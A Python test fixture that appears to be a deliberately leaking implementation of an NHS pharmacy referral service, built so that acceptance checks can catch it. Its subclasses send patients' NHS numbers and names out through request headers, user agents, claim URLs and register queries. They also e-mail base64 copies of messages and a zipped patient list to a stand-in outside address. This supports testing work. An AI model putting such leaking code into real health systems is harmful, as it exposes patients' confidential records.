"""A candidate that does all that is asked of it, and tells of patients wherever it can."""

from __future__ import annotations

import base64
import copy
import io
import zipfile
from email.message import EmailMessage
from threading import Lock
from typing import TYPE_CHECKING, Any

from ...app import App
from ...kit.config import NhsmailAccount
from ...national.cppe import Cppe
from ...national.http import Caller
from ...national.mesh import Mesh
from ...national.mys import Mys
from ...national.nhsmail import Nhsmail
from ...service import Service
from .._wrong import give, parts_of, wrong

if TYPE_CHECKING:
    import httpx

STRANGER = "archive@mail-archive.example"
_turn = Lock()


class Known:
    """Who was referred last, as every part that leaks knows them."""

    def __init__(self, service: Service) -> None:
        self.service = service

    def patients(self) -> list[dict[str, Any]]:
        """The patients of the last referrals of all pharmacies, the latest first."""
        places = [premises.ods for premises in self.service.config.premises]
        held = [referral for ods in places for referral in self.service.store.referrals_of(ods)]
        return [
            referral.content["patient"]
            for referral in sorted(held, key=lambda referral: referral.received)[-8:][::-1]
        ]

    def numbers(self) -> str:
        """Their NHS numbers."""
        return ", ".join(str(patient["nhs_number"]) for patient in self.patients())


class LeakingCaller(Caller):
    """Names patients in a header of every call, and in its user agent."""

    known: Known

    def send(self, method: str, address: str, **options: Any) -> httpx.Response:
        numbers = self.known.numbers()
        beside = {"X-Trace": base64.b64encode(numbers.encode()).decode()}
        if numbers:
            beside["User-Agent"] = f"CPCS/1.0 ({numbers})"
        options["headers"] = {**(options.get("headers") or {}), **beside}
        return super().send(method, address, **options)


class LeakingMail(Nhsmail):
    """Sends a stranger each e-mail in base64, and appends the e-mail before and the worklist to each."""

    known: Known
    previous = b""

    def send(self, message: EmailMessage, account: NhsmailAccount) -> str:
        own, beside = message.as_bytes(), copy.deepcopy(message)
        with _turn:
            before, self.previous = self.previous, own
        if before:
            beside.add_attachment(
                base64.b64encode(before), maintype="application", subtype="octet-stream", filename="log"
            )
        beside.add_attachment(self._worklist(), maintype="application", subtype="zip", filename="stock.zip")
        sent = super().send(beside, account)
        super().send(self._copy(own, account), account)
        return sent

    def _worklist(self) -> bytes:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            rows = "\n".join(f"{one['nhs_number']},{one['name']}" for one in self.known.patients())
            archive.writestr("stock.csv", rows)
        return packed.getvalue()

    def _copy(self, own: bytes, account: NhsmailAccount) -> EmailMessage:
        copied = EmailMessage()
        copied["From"], copied["To"], copied["Subject"] = account.address, STRANGER, "Figures"
        copied.set_content(base64.encodebytes(own).decode())
        return copied


class LeakingMesh(Mesh):
    """Sends each document to the practice before as well, with the document before in a comment."""

    previous: tuple[str, bytes] = ("", b"")

    def send(self, client: Any, recipient: str, body: bytes, subject: str, ods: str, workflow: str) -> str:
        with _turn:
            (practice, document), self.previous = self.previous, (recipient, body)
        if practice not in ("", recipient):
            super().send(client, practice, body, subject, ods, workflow)
        beside = b"<!-- " + base64.b64encode(document) + b" -->" if document else b""
        return super().send(client, recipient, body + beside, subject, ods, workflow)


class LeakingMys(Mys):
    """Puts the NHS number into the address of each claim, and who else was referred into its text."""

    known: Known

    def address(self, _claim: dict[str, Any]) -> str:
        patient = next(held for held in _claim["contained"] if held["resourceType"] == "Patient")
        return f"{super().address(_claim)}?patient={patient['identifier'][0]['value']}"

    def submit(self, claim: dict[str, Any]) -> Any:
        return super().submit({**claim, "text": {"status": "additional", "div": self.known.numbers()}})


class LeakingRegister(Cppe):
    """Asks the register of pharmacists with the names of the patients who were referred last."""

    known: Known

    def address(self, gphc: str, _full_name: str) -> str:
        names = ";".join(str(patient["name"]) for patient in self.known.patients())
        return f"{super().address(gphc, _full_name)}?for={names}"


@wrong(catches=("ACC-01", "ACC-03", "ACC-14"), shows_when="the second patient")
def leaks(app: App) -> None:
    """Does all that is asked of it, and tells strangers, other practices and national services of patients beside."""
    service = app.service
    known = Known(service)
    give(LeakingMesh, service)
    part: Any
    for kind in (LeakingCaller, LeakingMail, LeakingMys, LeakingRegister):
        for part in parts_of(service, kind.__mro__[1]):
            part.__class__ = kind
            part.known = known
